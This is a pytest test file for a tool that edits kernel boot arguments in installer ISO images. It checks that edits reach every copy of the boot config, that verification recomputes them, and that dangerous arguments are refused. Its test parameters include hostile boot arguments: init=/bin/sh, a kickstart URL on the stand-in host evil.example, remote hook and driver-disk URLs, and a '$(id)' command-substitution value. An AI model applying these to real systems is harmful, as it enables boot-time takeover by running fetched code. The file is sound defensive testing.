"""Kernel arguments: every copy of the boot configuration gets them, and nothing else; verification recomputes it."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Dict, List, Tuple

import pytest

from respin.formats.bootconfig import kind_of, parse
from tests.end_to_end.test_refusals import refused
from tests.support.forge import Forge, respin
from tests.support.images import extracted, run

APPEND, REMOVE = "good.debug=1", "rd.live.check"
TREE = ("/isolinux/isolinux.cfg", "/EFI/BOOT/grub.cfg")
IMAGE, IN_IMAGE = "/isolinux/efiboot.img", "/EFI/BOOT/grub.cfg"


def copies(iso: Path, tmp: Path) -> List[Tuple[str, bytes]]:
    """Every copy, as xorriso and mtools read it."""
    tmp.mkdir(exist_ok=True)
    found = []
    for path in (*TREE, IMAGE):
        extracted(iso, path, tmp / "file")
        found.append((path, (tmp / "file").read_bytes()))
        (tmp / "file").unlink()
    (tmp / "efi.img").write_bytes(found.pop()[1])
    found.append((f"{IMAGE}:{IN_IMAGE}", run("mtype", "-i", tmp / "efi.img", f"::{IN_IMAGE}")))
    return found


def arguments(path: str, data: bytes) -> List[Tuple[str, ...]]:
    kind = kind_of(path.rpartition(":")[2], data)
    assert kind is not None
    return [entry.arguments for entry in parse(data, kind, path).entries]


@pytest.fixture(scope="module")
def edited(forge: Forge, good_plugin: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The good plugin on the stock Node, with an argument more and one less."""
    iso = tmp_path_factory.mktemp("arguments") / "out.iso"
    done = forge.build(iso, good_plugin, append_arg=[APPEND, "a.first=1"], remove_arg=REMOVE, json=True)
    assert done.code == 0, done.err
    return iso


def test_every_copy_agrees_and_nothing_else_in_them_changes(forge: Forge, edited: Path, tmp_path: Path) -> None:
    before, after = copies(forge.iso, tmp_path / "a"), copies(edited, tmp_path / "b")
    for (path, old), (_, new) in zip(before, after):
        stock = arguments(path, old)
        assert any(REMOVE in words for words in stock)
        wanted = [(*(word for word in words if word != REMOVE), APPEND, "a.first=1") for words in stock]
        assert arguments(path, new) == wanted
        assert new.replace(f" {APPEND} a.first=1".encode(), b"") == old.replace(f" {REMOVE}".encode(), b"")


def test_verification_recomputes_it_and_says_so(forge: Forge, edited: Path) -> None:
    done = respin("verify", edited, "--trust", forge.keys.trust, "--json")
    assert done.code == 0, done.err
    medium = done.json["medium"]
    assert (medium["append_arguments"], medium["remove_arguments"]) == ([APPEND, "a.first=1"], [REMOVE])
    assert {one["place"] for one in medium["edited"]} == {*TREE, f"{IMAGE}:{IN_IMAGE}"}
    links = {link["name"]: link for link in done.json["links"]}
    assert f"+{APPEND} +a.first=1 -{REMOVE}; recomputed" in links["medium"]["detail"]
    assert links["installer"]["status"] == "passed"


@pytest.mark.parametrize(
    ("asked", "complete"),
    [
        ({"append_arg": ["console=ttyS1", "quiet", "intel_iommu=on"]}, True),
        ({"remove_arg": ["quiet"]}, True),
        ({"append_arg": ["init=/bin/sh"]}, False),
        ({"append_arg": ["console=ttyS1", "inst.ks=http://evil.example/ks"]}, False),
        ({"append_arg": ["something.unknown=1"]}, False),
    ],
    ids=str,
)
def test_what_only_the_isos_maker_answers_for_is_left_open(
    forge: Forge, good_plugin: Path, tmp_path: Path, asked: "dict[str, list[str]]", complete: bool
) -> None:
    """Recomputed as it is, it could still make another system of the Node: that is not "exactly the plugins"."""
    done = forge.build(tmp_path / "out.iso", good_plugin, **asked)
    assert done.code == 0, done.err
    report = forge.verify(tmp_path / "out.iso", base=None).json
    assert report["complete"] is complete
    medium = next(link for link in report["links"] if link["name"] == "medium")
    assert (medium["status"] == "passed") is complete
    shown = respin("verify", tmp_path / "out.iso", "--trust", forge.keys.trust).out
    assert ("plus exactly the plugins below" in shown) is complete


def test_the_vendors_iso_comes_back(forge: Forge, edited: Path, tmp_path: Path) -> None:
    done = respin("restore", edited, "-o", tmp_path / "stock.iso")
    assert done.code == 0, done.err
    run("cmp", tmp_path / "stock.iso", forge.iso)


def test_the_firmwares_view_is_sound(edited: Path, tmp_path: Path) -> None:
    run("checkisomd5", edited)
    extracted(edited, IMAGE, tmp_path / "efi.img")
    run("fsck.fat", "-n", tmp_path / "efi.img")


def test_it_is_reproduced_from_its_statement(forge: Forge, edited: Path, good_plugin: Path) -> None:
    done = respin("reproduce", edited, "--plugin", good_plugin, "--trust", forge.keys.trust, "--json")
    assert done.code == 0, done.err
    assert done.json["reproduced"] is True


@pytest.mark.parametrize(
    ("options", "code", "finding"),
    [
        ({"remove_arg": "root"}, 4, "kept-argument"),
        ({"append_arg": "root=/dev/sda"}, 4, "kept-argument"),
        ({"append_arg": ["good=1", "a b"]}, 2, "usage"),
        ({"append_arg": 'x="$(id)"'}, 2, "usage"),
        ({"remove_arg": "stands.nowhere"}, 2, "no-such-argument"),
        ({"append_arg": "quiet", "remove_arg": "quiet"}, 2, "usage"),
    ],
)
def test_what_must_not_change_is_refused(
    options: Dict[str, Any], code: int, finding: str, forge: Forge, good_plugin: Path, tmp_path: Path
) -> None:
    done = forge.build(tmp_path / "out.iso", good_plugin, json=True, **options)
    refused(done, tmp_path / "out.iso", code, finding)


def test_a_plugins_own_argument_gets_there(forge: Forge, tmp_path: Path) -> None:
    plugin = forge.plugin("args", effects='kernel_arguments = ["args.debug=1", "intel_iommu=on", "inst.dd"]')
    done = forge.build(tmp_path / "out.iso", plugin, json=True)
    assert done.code == 0, done.err
    for path, data in copies(tmp_path / "out.iso", tmp_path / "x"):
        assert all("args.debug=1" in words for words in arguments(path, data))
    assert done.json["verification"]["medium"]["append_arguments"] == []


@pytest.mark.parametrize(
    "argument",
    [
        "init=/bin/sh",
        "root=/dev/sdb",
        "inst.ks=http://x/",
        "systemd.unit=x",
        "rd.break",
        # None of these is on a list of what is dangerous; the first three would have the Node run what is fetched.
        "cloud-config-url=http://x/",
        "hooks=http://x/",
        "inst.dd=http://x/dd.iso",
        "nospectre_v2",
        "firmware_class.path=/usr/share/args",
        "initcall_blacklist=init_ima",
        "other.debug=1",
    ],
)
def test_a_plugins_argument_for_something_else_is_refused(argument: str, forge: Forge, tmp_path: Path) -> None:
    plugin = forge.plugin("args", effects=f'kernel_arguments = ["{argument}"]')
    done = forge.build(tmp_path / "out.iso", plugin, json=True)
    refused(done, tmp_path / "out.iso", 4, "kernel-argument", argument)
